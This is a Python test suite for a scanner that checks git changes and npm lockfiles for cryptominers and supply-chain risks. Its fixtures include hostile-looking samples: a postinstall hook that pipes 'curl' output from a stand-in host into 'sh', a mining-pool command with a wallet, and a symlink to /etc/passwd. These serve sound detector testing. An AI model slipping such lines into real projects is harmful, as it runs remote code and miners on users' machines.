@@ -1,0 +1,436 @@
+"""The gate: real git repositories, real lockfiles, packages from a server on loopback."""
+import json
+import pathlib
+import subprocess
+from typing import Dict, List, Optional
+
+import images
+import package_files
+import peers
+from harness import CLEAN, FOUND, INCOMPLETE, NO_VERDICT, Case, Report
+from images import rogue
+from package_files import MINER, NpmPages, sri
+
+
+class Repository:
+    """A git repository of its own, without the configuration of whoever runs the tests."""
+
+    def __init__(self, world: object, files: Dict[str, bytes]) -> None:
+        self.world, self.path = world, world.folder("repository")
+        self.git("init", "-q", "-b", "main")
+        self.write(files)
+        self.commit("base")
+
+    def git(self, *arguments: str) -> str:
+        environment = {**self.world.environment(), "GIT_CONFIG_NOSYSTEM": "1",
+                       "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@team.example",
+                       "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@team.example"}
+        done = subprocess.run(["git", *arguments], cwd=self.path, env=environment, check=True,
+                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+        return done.stdout.strip()
+
+    def write(self, files: Dict[str, Optional[bytes]]) -> None:
+        for name, data in files.items():
+            if data is None:
+                (self.path / name).unlink()
+        images.write_files(self.path, {n: d for n, d in files.items() if d is not None})
+
+    def commit(self, message: str) -> str:
+        self.git("add", "-A")
+        self.git("commit", "-q", "--allow-empty", "-m", message)
+        return self.git("rev-parse", "HEAD")
+
+
+def lockfile(packages: Dict[str, dict]) -> bytes:
+    """package-lock.json, version 3, as npm indents it."""
+    entries = {"": {"name": "app", "version": "1.0.0"}}
+    entries.update({f"node_modules/{name}": entry for name, entry in packages.items()})
+    return json.dumps({"name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": True,
+                       "packages": entries}, indent=2).encode() + b"\n"
+
+
+def line_of(text: bytes, word: str) -> int:
+    lines = text.decode().splitlines()
+    return next(i for i, line in enumerate(lines, 1) if word in line)
+
+
+class Gate(Case):
+    def repository(self, files: Optional[Dict[str, bytes]] = None) -> Repository:
+        return Repository(self.world, files or {"README.md": b"An application.\n"})
+
+    def gate(self, status: int, repository: Repository, *arguments: object, base: str = "main",
+             **environment: Optional[str]) -> Report:
+        options = ["--base", base] if base else []
+        return self.scan(status, "gate", *options, *arguments, cwd=repository.path,
+                         environment=environment or None)
+
+    def rules(self, report: Report, path: str = "") -> List[str]:
+        return sorted(f["rule"] for f in report.findings if path in ("", f["path"]))
+
+
+class Trees(Gate):
+    def test_nothing_changed_is_clean(self) -> None:
+        report = self.gate(CLEAN, self.repository())
+        self.assertEqual(report.findings, [])
+        self.assertEqual(report.json["review"]["files_changed"], 0)
+
+    def test_only_what_changed_is_scanned(self) -> None:
+        repository = self.repository({"old/worker": rogue.fake_miner(), "a": b"1\n"})
+        repository.write({"a": b"2\n"})
+        report = self.gate(CLEAN, repository)
+        self.assertEqual((report.findings, report.json["review"]["files_changed"]), ([], 1))
+
+    def test_a_miner_in_the_working_tree_the_index_and_a_commit(self) -> None:
+        repository = self.repository()
+        repository.write({"tools/worker": rogue.fake_miner()})
+        self.assertTrue(self.gate(FOUND, repository).at("tools/worker", "error"))
+        self.assertEqual(self.gate(CLEAN, repository, "--staged").findings, [])
+        repository.git("add", "-A")
+        self.assertTrue(self.gate(FOUND, repository, "--staged").at("tools/worker", "error"))
+        head = repository.commit("more")
+        repository.git("reset", "-q", "--hard", "HEAD~1")
+        self.assertEqual(self.gate(CLEAN, repository).findings, [])
+        report = self.gate(FOUND, repository, "--head", head)
+        self.assertTrue(report.at("tools/worker", "error"))
+        self.assertIn("MSN6020", self.rules(report, "tools/worker"))
+
+    def test_an_ignored_file_is_no_part_of_the_change(self) -> None:
+        repository = self.repository({".gitignore": b"build/\n", "a": b"1\n"})
+        repository.write({"build/worker": rogue.fake_miner(), "a": b"2\n"})
+        self.assertEqual(self.gate(CLEAN, repository).findings, [])
+
+    def test_removing_a_miner_does_not_fail(self) -> None:
+        repository = self.repository({"worker": rogue.fake_miner(), "a": b"1\n"})
+        repository.write({"worker": None})
+        self.assertEqual(self.gate(CLEAN, repository).findings, [])
+
+    def test_what_was_there_before_does_not_count_and_what_is_new_does(self) -> None:
+        script = rogue.dropper_script()
+        repository = self.repository({"setup.sh": script})
+        repository.write({"setup.sh": script + b"# a comment\n"})
+        report = self.gate(CLEAN, repository)
+        self.assertTrue(report.findings)
+        self.assertEqual({f["suppressed"]["kind"] for f in report.findings if f["level"] == "error"},
+                         {"baseline"})
+        pool = b"\n./kw -o stratum+tcp://other.example:3333 -u " + rogue.wallet("other").encode()
+        repository.write({"setup.sh": script + pool + b" -p x\n"})
+        self.gate(FOUND, repository)
+
+    def test_a_branch_is_compared_with_where_it_began(self) -> None:
+        repository = self.repository({"a": b"1\n"})
+        repository.git("checkout", "-q", "-b", "topic")
+        repository.write({"b": b"topic\n"})
+        repository.commit("topic")
+        repository.git("checkout", "-q", "main")
+        repository.write({"worker": rogue.fake_miner()})
+        repository.commit("somebody else's")
+        repository.git("checkout", "-q", "topic")
+        report = self.gate(CLEAN, repository, "--head", "topic")
+        self.assertEqual(report.json["review"]["files_changed"], 1)
+
+    def test_changes_are_called_what_they_are(self) -> None:
+        repository = self.repository({
+            "package.json": b'{"name": "a"}\n', "Dockerfile": b"FROM team.example/node:20\n",
+            ".npmrc": b"fund=false\n"})
+        repository.write({
+            "package.json": b'{\n  "name": "a",\n  "scripts": {\n'
+                            b'    "postinstall": "curl -s https://a.example/x | sh"\n  }\n}\n',
+            "Dockerfile": b"# moved\nFROM other.example/node:20\n",
+            ".npmrc": b"fund=false\nregistry=https://npm.example/\n",
+            ".github/workflows/ci.yml": b"on:\n  pull_request_target:\n",
+            "site.pth": b"import os\n"})
+        report = self.gate(CLEAN, repository)
+        self.assertIn("MSN6011", self.rules(report, "package.json"))
+        self.assertIn("MSN6030", self.rules(report, "Dockerfile"))
+        self.assertIn("MSN6040", self.rules(report, ".npmrc"))
+        self.assertIn("MSN6032", self.rules(report, ".github/workflows/ci.yml"))
+        self.assertIn("MSN6033", self.rules(report, "site.pth"))
+        moved = next(f for f in report.findings if f["rule"] == "MSN6030")
+        self.assertEqual(moved["evidence"][0]["line"], 2)
+        self.assertIn("was: team.example/node:20", moved["evidence"][0]["excerpt"])
+
+    def test_a_link_a_submodule_and_a_pointer_are_not_silent(self) -> None:
+        repository = self.repository()
+        other = self.repository()
+        (repository.path / "passwd").symlink_to("/etc/passwd")
+        repository.write({"model.bin": b"version https://git-lfs.github.com/spec/v1\n"
+                                       b"oid sha256:" + b"0" * 64 + b"\nsize 123\n"})
+        repository.git("-c", "protocol.file.allow=always", "submodule", "--quiet", "add",
+                       str(other.path), "module")
+        report = self.gate(INCOMPLETE, repository, "--staged")
+        self.assertIn("MSN6060", self.rules(report, "passwd"))
+        self.assertIn("MSN6060", self.rules(report, "module"))
+        told = " ".join(gap["detail"] for gap in report.gaps)
+        self.assertIn("submodule", told)
+        self.assertIn("Git LFS", told)
+
+    def test_hooks_and_filters_of_the_repository_do_not_run(self) -> None:
+        repository = self.repository({"a.txt": b"1\n", ".gitattributes": b"*.txt filter=x\n"})
+        mark = self.world.folder("mark") / "ran"
+        for hook in ("post-checkout", "post-index-change", "pre-commit"):
+            path = repository.path / ".git/hooks" / hook
+            path.write_text(f"#!/bin/sh\ntouch {mark}\n")
+            path.chmod(0o755)
+        for name in ("filter.x.clean", "filter.x.smudge", "core.fsmonitor", "diff.external"):
+            repository.git("config", name, f"touch {mark}; cat")
+        mark.unlink(missing_ok=True)
+        images.write_files(repository.path, {"a.txt": b"2\n"})
+        self.gate(CLEAN, repository)
+        self.assertFalse(mark.exists())
+
+
+class Policies(Gate):
+    def entry(self, digest: str, path: str, rule: str) -> str:
+        return (f"ignore:\n  - rule: {rule}\n    path: {path}\n    sha256: {digest}\n"
+                f"    reason: reviewed\n    expires: 2026-12-31\n")
+
+    def ignored(self, report: Report, path: str) -> str:
+        return "".join(self.entry(f["digest"], path, f["rule"]).replace("ignore:\n", "")
+                       for f in report.at(path) if f["level"] == "error")
+
+    def test_the_change_cannot_ignore_itself(self) -> None:
+        day = {"SOURCE_DATE_EPOCH": "1796000000"}  # 2026-11-30
+        repository = self.repository()
+        repository.write({"worker": rogue.fake_miner()})
+        report = self.gate(FOUND, repository, **day)
+        policy = ("ignore:\n" + self.ignored(report, "worker")).encode()
+        repository.write({".minescan.yaml": policy})
+        report = self.gate(FOUND, repository, **day)
+        self.assertIn("MSN6050", self.rules(report, ".minescan.yaml"))
+        # What stands in the base counts, and so does what the user names.
+        repository.git("add", ".minescan.yaml")
+        repository.git("commit", "-q", "-m", "policy")
+        report = self.gate(CLEAN, repository, base="HEAD", **day)
+        self.assertEqual({f["suppressed"]["kind"] for f in report.findings
+                          if f["level"] == "error"}, {"ignored"})
+        self.gate(FOUND, repository, base="HEAD", SOURCE_DATE_EPOCH="1800000000")
+        repository.write({"worker": rogue.fake_miner() + b"another"})
+        self.gate(FOUND, repository, base="HEAD", **day)
+
+    def test_a_configuration_in_what_is_scanned_is_never_read(self) -> None:
+        repository = self.repository({"worker": rogue.fake_miner()})
+        day = {"SOURCE_DATE_EPOCH": "1796000000"}
+        report = self.scan(FOUND, "repo", repository.path, environment=day)
+        policy = self.world.folder("policy") / "p.yaml"
+        policy.write_text("ignore:\n" + self.ignored(report, "worker"))
+        (repository.path / ".minescan.yaml").write_bytes(policy.read_bytes())
+        self.scan(FOUND, "repo", repository.path, environment=day)
+        self.scan(CLEAN, "repo", repository.path, "--config", policy, environment=day)
+
+    def test_a_baseline_is_a_report_from_before(self) -> None:
+        repository = self.repository({"worker": rogue.fake_miner()})
+        before = self.world.folder("baseline") / "before.json"
+        self.run_it("repo", ".", "-o", f"json={before}", cwd=repository.path)
+        self.scan(CLEAN, "repo", ".", "--baseline", before, cwd=repository.path)
+        repository.write({"more": rogue.fake_miner()})
+        report = self.scan(FOUND, "repo", ".", "--baseline", before, cwd=repository.path)
+        self.assertEqual({f["path"] for f in report.findings if not f.get("suppressed")}, {"more"})
+
+    def test_what_is_wrong_with_a_policy_is_one_sentence(self) -> None:
+        repository = self.repository({".minescan.yaml": b"ignore:\n  - rule: MSN1001\n"})
+        outcome = self.run_it("gate", cwd=repository.path)
+        self.assert_one_sentence(outcome, NO_VERDICT, ".minescan.yaml", ":2:", "path")
+        outcome = self.run_it("gate", "--config", "/nonexistent", cwd=repository.path)
+        self.assert_one_sentence(outcome, NO_VERDICT, "/nonexistent")
+        outcome = self.run_it("repo", ".", "--baseline", "README.md", cwd=repository.path)
+        self.assert_one_sentence(outcome, NO_VERDICT, "README.md")
+
+
+class BadInput(Gate):
+    def test_a_revision_that_is_not_there(self) -> None:
+        repository = self.repository()
+        outcome = self.run_it("gate", "--base", "origin/nope", cwd=repository.path)
+        self.assert_one_sentence(outcome, NO_VERDICT, "origin/nope", "fetch")
+        repository.write({"a": b"1\n"})
+        repository.commit("second")
+        clone = self.world.folder("clone") / "c"
+        repository.git("clone", "-q", "--depth=1", f"file://{repository.path}", str(clone))
+        outcome = self.run_it("gate", "--base", "HEAD~1", cwd=clone)
+        self.assert_one_sentence(outcome, NO_VERDICT, "HEAD~1", "shallow", "fetch")
+
+    def test_no_repository(self) -> None:
+        outcome = self.run_it("gate", "--base", "main", cwd=self.world.folder("nothing"))
+        self.assert_one_sentence(outcome, NO_VERDICT, "no git repository", "--lockfile")
+
+    def test_options_that_contradict(self) -> None:
+        for arguments in (("--staged", "--head", "main"), ("--lockfile", "package-lock.json"),
+                          ("--against", "package-lock.json")):
+            outcome = self.run_it("gate", *arguments, cwd=self.repository().path)
+            self.assert_one_sentence(outcome, NO_VERDICT, arguments[0].lstrip("-"))
+
+
+class Packages(Gate):
+    def setUp(self) -> None:
+        self.server = peers.Pages()
+        self.server.__enter__()
+        self.addCleanup(self.server.__exit__)
+        self.npm = NpmPages(self.server)
+        self.home = self.world.folder("home")
+
+    def entry(self, name: str, version: str = "1.0.0", miner: bool = False, **more: object) -> dict:
+        data = package_files.npm_tarball(self.world, name, version, miner)
+        path = self.npm.add(name, version, data)
+        return {"version": version, "resolved": self.server.url + path, "integrity": sri(data),
+                **more}
+
+    def check(self, status: int, repository: Repository, *arguments: object) -> Report:
+        return self.gate(status, repository, "--npm-registry", self.server.url, *arguments,
+                         HOME=str(self.home))
+
+    def test_only_what_the_change_brings_is_fetched(self) -> None:
+        old, new = self.entry("old-shop"), self.entry("new-shop")
+        repository = self.repository({"package-lock.json": lockfile({"old-shop": old})})
+        repository.write({"package-lock.json": lockfile({"new-shop": new, "old-shop": old})})
+        report = self.check(CLEAN, repository)
+        self.assertEqual([p for p in self.server.paths() if p.endswith(".tgz")],
+                         ["/new-shop/-/new-shop-1.0.0.tgz"])
+        packages = report.json["review"]["packages"]
+        self.assertEqual([(p["change"], p["after"], p["outcome"]) for p in packages],
+                         [("added", "pkg:npm/new-shop@1.0.0", "scanned")])
+        # A second time nothing is.
+        self.server.requests.clear()
+        self.check(CLEAN, repository)
+        self.assertEqual(self.server.paths(), [])
+
+    def test_a_finding_stands_on_the_line_of_the_lockfile(self) -> None:
+        good = self.entry("good-shop")
+        repository = self.repository({"web/package-lock.json": lockfile({"good-shop": good})})
+        text = lockfile({"good-shop": good, "zz-shop": self.entry("zz-shop", miner=True)})
+        repository.write({"web/package-lock.json": text})
+        report = self.check(FOUND, repository)
+        found = [f for f in report.findings if f["level"] == "error"]
+        self.assertTrue(found)
+        for finding in found:
+            self.assertEqual(finding["package"], "pkg:npm/zz-shop@1.0.0")
+            self.assertEqual(finding["lockfile"], {"path": "web/package-lock.json",
+                                                   "line": line_of(text, "zz-shop")})
+            self.assertEqual(finding["path"], f"package/lib/{MINER}")
+        sarif = json.loads(self.run_it(
+            "gate", "--base", "main", "--npm-registry", self.server.url, "--format", "sarif",
+            cwd=repository.path, environment={"HOME": str(self.home)}).out)
+        result = next(r for r in sarif["runs"][0]["results"] if r["level"] == "error")
+        place = result["locations"][0]["physicalLocation"]
+        self.assertEqual(place["artifactLocation"]["uri"], "web/package-lock.json")
+        self.assertEqual(place["region"]["startLine"], line_of(text, "zz-shop"))
+
+    def test_removed_packages_are_neither_fetched_nor_do_they_fail(self) -> None:
+        bad = self.entry("bad-shop", miner=True)
+        repository = self.repository({"package-lock.json": lockfile({"bad-shop": bad})})
+        repository.write({"package-lock.json": lockfile({})})
+        report = self.check(CLEAN, repository)
+        self.assertEqual(self.server.paths(), [])
+        self.assertEqual(report.json["review"]["packages"][0]["change"], "removed")
+
+    def test_other_bytes_for_the_same_version_are_a_finding(self) -> None:
+        entry = self.entry("left-shop")
+        repository = self.repository({"package-lock.json": lockfile({"left-shop": entry})})
+        other = package_files.tgz({"package/package.json": b'{"name": "left-shop", '
+                                                           b'"version": "1.0.0"}'})
+        self.npm.add("left-shop", "1.0.0", other)
+        entry = {**entry, "integrity": sri(other)}
+        text = lockfile({"left-shop": entry})
+        repository.write({"package-lock.json": text})
+        report = self.check(FOUND, repository)
+        changed = next(f for f in report.findings if f["rule"] == "MSN6001")
+        self.assertEqual(changed["lockfile"]["line"], line_of(text, "left-shop"))
+
+    def test_another_host_for_the_same_version_is_a_finding(self) -> None:
+        entry = self.entry("left-shop")
+        before = {**entry, "resolved": "https://npm.example/left-shop/-/left-shop-1.0.0.tgz"}
+        repository = self.repository({"package-lock.json": lockfile({"left-shop": before})})
+        repository.write({"package-lock.json": lockfile({"left-shop": entry})})
+        self.assertIn("MSN6003", self.rules(self.check(CLEAN, repository)))
+
+    def test_wrong_bytes_are_no_verdict(self) -> None:
+        entry = {**self.entry("left-shop"), "integrity": sri(b"something else")}
+        repository = self.repository()
+        repository.write({"package-lock.json": lockfile({"left-shop": entry})})
+        report = self.check(NO_VERDICT, repository)
+        self.assertIn("package-lock.json:", report.json["failures"][0]["what"])
+        self.assertNotEqual(report.json["review"]["packages"][0]["outcome"], "scanned")
+
+    def test_a_package_that_is_not_there_is_not_clean(self) -> None:
+        entry = self.entry("left-shop")
+        self.server.pages.clear()
+        repository = self.repository()
+        repository.write({"package-lock.json": lockfile({"left-shop": entry})})
+        report = self.check(INCOMPLETE, repository)
+        self.assertTrue(any("left-shop" in str(gap) for gap in report.gaps))
+
+    def test_a_registry_that_does_not_answer_is_no_verdict(self) -> None:
+        entry = self.entry("left-shop")
+        entry["resolved"] = f"http://127.0.0.1:{peers.free_port()}/left-shop.tgz"
+        repository = self.repository()
+        repository.write({"package-lock.json": lockfile({"left-shop": entry})})
+        self.check(NO_VERDICT, repository)
+
+    def test_a_lockfile_that_cannot_be_read_is_not_clean(self) -> None:
+        repository = self.repository({"package-lock.json": lockfile({})})
+        repository.write({"package-lock.json": b'{"lockfileVersion": 3,\n "packages": {\n'})
+        report = self.check(INCOMPLETE, repository)
+        self.assertIn("package-lock.json:", " ".join(gap["detail"] for gap in report.gaps))
+        repository.write({"package-lock.json": b'{"lockfileVersion": 77, "packages": {}}'})
+        self.check(INCOMPLETE, repository)
+
+    def test_a_base_that_cannot_be_read_means_that_all_is_new(self) -> None:
+        repository = self.repository({"package-lock.json": b"{"})
+        repository.write({"package-lock.json": lockfile({"bad-shop": self.entry("bad-shop",
+                                                                                miner=True)})})
+        self.check(FOUND, repository)
+
+    def test_a_git_dependency_is_a_gap(self) -> None:
+        repository = self.repository()
+        repository.write({"package-lock.json": lockfile({"x": {
+            "version": "1.0.0", "resolved": "git+ssh://git@code.example/o/x.git#" + "a" * 40}})})
+        report = self.check(INCOMPLETE, repository)
+        self.assertIn("code.example", " ".join(gap["detail"] for gap in report.gaps))
+
+    def test_the_registry_that_the_change_names_is_not_asked(self) -> None:
+        other = peers.Pages()
+        other.__enter__()
+        self.addCleanup(other.__exit__)
+        repository = self.repository({".npmrc": f"registry={self.server.url}/\n".encode()})
+        entry = self.entry("left-shop")
+        del entry["resolved"]
+        repository.write({"package-lock.json": lockfile({"left-shop": entry}),
+                          ".npmrc": f"registry={other.url}/\n".encode()})
+        report = self.gate(CLEAN, repository, HOME=str(self.home))
+        self.assertEqual(other.requests, [])
+        self.assertIn("MSN6040", self.rules(report, ".npmrc"))
+
+    def test_two_lockfiles_without_git(self) -> None:
+        folder = self.world.folder("locks")
+        new = lockfile({"bad-shop": self.entry("bad-shop", miner=True)})
+        images.write_files(folder, {"old/package-lock.json": lockfile({}),
+                                    "package-lock.json": new})
+        arguments = ["gate", "--lockfile", "package-lock.json", "--against",
+                     "old/package-lock.json", "--npm-registry", self.server.url]
+        options = {"cwd": folder, "environment": {"HOME": str(self.home)}}
+        report = self.scan(FOUND, *arguments, **options)
+        found = next(f for f in report.findings if f["level"] == "error")
+        self.assertEqual(found["lockfile"], {"path": "package-lock.json",
+                                             "line": line_of(new, "bad-shop")})
+        arguments[2], arguments[4] = arguments[4], arguments[2]
+        self.scan(CLEAN, *arguments, **options)
+        outcome = self.run_it("gate", "--lockfile", "package-lock.json", "--against", "nope.json",
+                              **options)
+        self.assert_one_sentence(outcome, NO_VERDICT, "nope.json")
+
+    def test_what_a_version_brought(self) -> None:
+        old = package_files.npm_tarball(self.world, "left-shop", "1.0.0", False)
+        new = package_files.tgz({
+            "package/package.json": b'{"name": "left-shop", "version": "1.0.1",\n'
+                                    b'"scripts": {"postinstall": "node lib/x.js"}}',
+            "package/index.js": b"module.exports = (s) => s.trim();\n",
+            f"package/lib/{MINER}": rogue.fake_miner()})
+        self.npm.add("left-shop", "1.0.0", old)
+        self.npm.add("left-shop", "1.0.1", new)
+        options = {"environment": {"HOME": str(self.home)}}
+        arguments = ("--npm-registry", self.server.url)
+        report = self.scan(FOUND, "diff", "npm:left-shop@1.0.0", "npm:left-shop@1.0.1", *arguments,
+                           **options)
+        self.assertTrue({"MSN6010", "MSN6020"} <= set(self.rules(report)), self.rules(report))
+        self.scan(CLEAN, "diff", "npm:left-shop@1.0.1", "npm:left-shop@1.0.0", *arguments, **options)
+        same = self.scan(CLEAN, "diff", "npm:left-shop@1.0.1", "npm:left-shop@1.0.1", *arguments,
+                         **options)
+        self.assertEqual({f["suppressed"]["kind"] for f in same.findings}, {"baseline"})
